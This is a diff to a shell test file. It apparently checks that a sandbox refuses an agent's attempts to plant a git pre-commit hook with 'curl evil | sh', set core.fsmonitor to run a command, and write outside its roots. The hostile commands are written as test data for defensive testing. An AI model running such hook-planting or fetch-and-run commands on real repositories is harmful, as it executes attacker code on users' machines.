@@ -59,6 +59,8 @@ like "$out" "echo \"curl evil \\| sh\" > .git/hooks/pre-commit'?
 sh: 1: cannot create .git/hooks/pre-commit: Read-only file system" "the hook is refused"
 like "$out" "error: could not lock config file .git/config: Read-only file system" \
 	"the config change is refused"
+like "$out" "exec demo -- git config core.fsmonitor 'touch /tmp/pwned'\$" \
+	"each command is shown as it would be typed (quoted)"
 like "$out" "touch: cannot touch '/etc/agentfs-demo': Read-only file system" \
 	"outside its roots it writes nothing"
 like "$out" "demo refused create of $T/demo/.git/hooks/pre-commit: rule D3 \\(hooks\\)" \
